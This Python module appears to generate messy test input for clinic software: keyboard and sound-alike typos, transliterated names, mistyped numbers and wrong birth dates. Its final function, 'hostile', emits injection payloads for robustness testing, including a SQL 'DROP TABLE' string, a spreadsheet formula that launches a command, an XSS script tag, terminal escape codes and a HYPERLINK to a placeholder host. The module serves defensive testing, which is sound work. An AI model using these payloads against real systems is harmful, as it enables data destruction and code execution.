"""What people do to words when they type: slips of the finger and of the ear, missing keys, other days."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import date, timedelta

from vetbridge.testing.clinic import REFERENCE_DAY
from vetbridge.testing.population.dice import Dice
from vetbridge.testing.population.words import Words


def neighbour_key(text: str, words: Words, dice: Dice) -> str:
    """One letter becomes its neighbour on the keyboard."""
    place = dice.below(len(text)) if text else 0
    letter = text[place : place + 1]
    for row in words.keyboard:
        at = row.find(letter.lower()) if letter else -1
        if at >= 0:
            other = row[at - 1] if at and (dice.chance(0.5) or at == len(row) - 1) else row[min(at + 1, len(row) - 1)]
            return text[:place] + (other.upper() if letter.isupper() else other) + text[place + 1 :]
    return swapped_letters(text, dice)


def by_ear(text: str, words: Words, dice: Dice) -> str:
    """The word as somebody hears it: one spelling for another that sounds the same."""
    folded = text.lower()
    fitting = [(ours, theirs) for ours, theirs in words.sounds if ours in folded]
    if not fitting:
        return swapped_letters(text, dice)
    ours, theirs = dice.pick(fitting)
    changed = folded.replace(ours, theirs, 1)
    return changed[:1].upper() + changed[1:] if text[:1].isupper() else changed


def swapped_letters(text: str, dice: Dice) -> str:
    """One letter doubled, dropped, or changed with the next; mostly not the first."""
    if len(text) < 3:
        return text + text[-1:]
    place = 1 + dice.below(len(text) - 2)
    roll = dice.roll()
    if roll < 0.35:
        return text[:place] + text[place] + text[place:]
    if roll < 0.70:
        return text[:place] + text[place + 1 :]
    return text[:place] + text[place + 1] + text[place] + text[place + 2 :]


def typo(text: str, words: Words, dice: Dice) -> str:
    """Any of the slips."""
    roll = dice.roll()
    if roll < 0.35:
        return neighbour_key(text, words, dice)
    return by_ear(text, words, dice) if roll < 0.6 else swapped_letters(text, dice)


def transliterated(text: str, letters: Mapping[str, tuple[str, ...]], dice: Dice) -> str:
    """The word without the keys of its language, each letter in the same one of its ways (Mueller, Muller)."""
    way = dice.roll()
    pieces = []
    for letter in text:
        forms = letters.get(letter.lower())
        if forms is None:
            pieces.append(letter)
            continue
        form = forms[int(way * len(forms))]
        pieces.append(form.capitalize() if letter.isupper() else form)
    return "".join(pieces)


def wrong_digit(text: str, dice: Dice) -> str:
    """A number with one of its last six digits wrong, or two of them changed over."""
    places = [place for place, letter in enumerate(text) if letter.isdigit()][-6:]
    if not places:
        return text
    at = dice.below(len(places))
    if dice.chance(0.4) and at + 1 < len(places) and text[places[at]] != text[places[at + 1]]:
        left, right = places[at], places[at + 1]
        return text[:left] + text[right] + text[left + 1 : right] + text[left] + text[right + 1 :]
    place = places[at]
    return text[:place] + str((int(text[place]) + 1 + dice.below(8)) % 10) + text[place + 1 :]


def wrong_day(day: date, dice: Dice) -> date:
    """A birth date that is a year off, has day and month changed over, or was only guessed."""
    roll = dice.roll()
    if roll < 0.4:
        wrong = day + timedelta(days=365 if dice.chance(0.5) else -365)
    elif roll < 0.65 and day.day <= 12:
        wrong = date(day.year, day.day, day.month)
    elif roll < 0.85:
        wrong = date(day.year, day.month, 1)
    else:
        wrong = day + timedelta(days=dice.below(61) - 30)
    return min(wrong, REFERENCE_DAY)


def hostile(text: str, dice: Dice) -> str:
    """The text as an attacker or a broken program would send it."""
    roll = dice.below(10)
    if roll == 0:
        return f"\x1b[2J\x1b[31m{text}\x1b]0;owned\x07"
    if roll == 1:
        return f'=HYPERLINK("http://example.invalid/?{text}";"{text}")'
    if roll == 2:
        return (text or "x") * (10_000 // max(1, len(text)) + 1)
    if roll == 3:
        return f"{text} \U0001f436\U0001f408\u200d\u2b1b\U0001f9d1\U0001f3fd\u200d\U0001f9b0"
    if roll == 4:
        return f"\u202e{text}\u202c\u200f"
    if roll == 5:
        return "'; DROP TABLE client; --"
    if roll == 6:
        return "\u0000" + "\u0300" * 300 + text
    if roll == 7:
        return f"@SUM(1+1)*cmd|'/C calc'!A0 {text}"
    if roll == 8:
        return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)
    return f"<script>alert(1)</script>\r\n{text}\ud83d"
